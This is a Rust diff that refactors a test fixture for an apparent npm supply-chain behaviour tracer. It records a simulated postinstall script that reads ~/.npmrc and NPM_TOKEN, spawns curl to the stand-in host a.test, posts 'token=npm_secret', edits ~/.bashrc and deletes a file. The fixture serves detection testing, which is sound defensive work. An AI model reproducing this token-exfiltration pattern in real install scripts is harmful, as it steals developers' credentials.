@@ -5,66 +5,69 @@ use crate::verdict;
 
 const ROOT: &str = "/home/u/app/node_modules/sample";
 
+fn at(file: &str, line: u32) -> Vec<Location> {
+    vec![Location {
+        file: format!("{ROOT}/{file}"),
+        line,
+        column: 5,
+    }]
+}
+
 /// A package that reads a token, asks the environment, starts programs and talks to a host, with hostile names throughout.
 fn trace() -> Trace {
     let mut recorder = Recorder::default();
-    let at = |file: &str, line| {
-        vec![Location {
-            file: format!("{ROOT}/{file}"),
-            line,
-            column: 5,
-        }]
-    };
     recorder.start_run("postinstall", "developer-linux", "node setup.js");
-    let spawn = recorder.record(Kind::ProcSpawn, "node setup.js", 40, 0, Vec::new());
-    recorder.detail(spawn, "child", "41");
-    recorder.record(
-        Kind::FileRead,
-        format!("{ROOT}/setup.js"),
-        41,
-        1,
-        Vec::new(),
-    );
-    recorder.record(Kind::FileRead, "/home/u/.npmrc", 41, 2, at("setup.js", 3));
-    recorder.record(
-        Kind::FileRead,
-        "/etc/\u{1b}[31mhosts",
-        41,
-        2,
-        at("setup.js", 3),
-    );
-    recorder.record(Kind::EnvList, "*", 41, 3, at("setup.js", 4));
-    recorder.record(Kind::EnvRead, "NPM_TOKEN", 41, 3, at("setup.js", 4));
-    recorder.record(Kind::EnvRead, "CI", 41, 3, at("setup.js", 4));
-    for child in ["42", "43"] {
-        let spawn = recorder.record(
-            Kind::ProcSpawn,
-            "curl https://a.test/\u{202e}",
-            41,
-            4,
-            Vec::new(),
-        );
-        recorder.detail(spawn, "child", child);
-        recorder.record(
-            Kind::ProcExit,
-            "0",
-            child.parse().unwrap_or(0),
-            5,
-            Vec::new(),
-        );
+    script(&mut recorder);
+    recorder.end_run(RunEnd::Failed, "exit code 1");
+    for entry in 0..5 {
+        let command = format!("require('sample/{entry}')");
+        recorder.start_run("import", "developer-linux", &command);
+        recorder.end_run(RunEnd::Completed, "");
     }
-    recorder.record(Kind::NetDns, "only.test", 42, 4, Vec::new());
-    recorder.record(Kind::NetDns, "a.test", 42, 4, Vec::new());
-    recorder.record(Kind::NetConnect, "a.test:443", 42, 4, Vec::new());
+    let (runs, events, blobs) = recorder.finish();
+    Trace {
+        header: header(),
+        runs,
+        events,
+        blobs,
+    }
+}
+
+/// What the lifecycle script does: subjects in the order in which they happen, each with the line that is at fault.
+fn script(recorder: &mut Recorder) {
+    let spawn = |recorder: &mut Recorder, pid: u32, child: u32, command: &str| {
+        let seq = recorder.record(Kind::ProcSpawn, command, pid, 0, Vec::new());
+        recorder.detail(seq, "child", child.to_string());
+    };
+    spawn(recorder, 40, 41, "node setup.js");
+    for (kind, subject, line) in [
+        (
+            Kind::FileRead,
+            "/home/u/app/node_modules/sample/setup.js",
+            0,
+        ),
+        (Kind::FileRead, "/home/u/.npmrc", 3),
+        (Kind::FileRead, "/etc/\u{1b}[31mhosts", 3),
+        (Kind::EnvList, "*", 4),
+        (Kind::EnvRead, "NPM_TOKEN", 4),
+        (Kind::EnvRead, "CI", 4),
+    ] {
+        recorder.record(kind, subject, 41, 1, at("setup.js", line));
+    }
+    for child in [42, 43] {
+        spawn(recorder, 41, child, "curl https://a.test/\u{202e}");
+        recorder.record(Kind::ProcExit, "0", child, 5, Vec::new());
+    }
+    for (kind, subject) in [
+        (Kind::NetDns, "only.test"),
+        (Kind::NetDns, "a.test"),
+        (Kind::NetConnect, "a.test:443"),
+        (Kind::NetHttp, "POST https://a.test/x"),
+    ] {
+        recorder.record(kind, subject, 42, 4, at("setup.js", 9));
+    }
     let sent = recorder.record(Kind::NetSend, "a.test:443", 42, 5, at("setup.js", 9));
     recorder.attach(sent, "token=npm_secret");
-    recorder.record(
-        Kind::NetHttp,
-        "POST https://a.test/x",
-        42,
-        5,
-        at("setup.js", 9),
-    );
     recorder.record(
         Kind::FileWrite,
         "/home/u/.bashrc",
@@ -75,17 +78,10 @@ fn trace() -> Trace {
     let gone = recorder.record(Kind::FileDelete, "/home/u/x", 41, 6, at("setup.js", 12));
     recorder.settle(gone, Outcome::Error("ENOENT".into()));
     recorder.record(Kind::ProcExit, "1", 41, 7, Vec::new());
-    recorder.end_run(RunEnd::Failed, "exit code 1");
-    for entry in 0..5 {
-        recorder.start_run(
-            "import",
-            "developer-linux",
-            &format!("require('sample/{entry}')"),
-        );
-        recorder.end_run(RunEnd::Completed, "");
-    }
-    let (runs, events, blobs) = recorder.finish();
-    let header = Header {
+}
+
+fn header() -> Header {
+    Header {
         schema: crate::trace::SCHEMA.into(),
         package: PackageId {
             ecosystem: "npm".into(),
@@ -103,12 +99,6 @@ fn trace() -> Trace {
             audience: Vec::new(),
         }],
         ..Header::default()
-    };
-    Trace {
-        header,
-        runs,
-        events,
-        blobs,
     }
 }
 
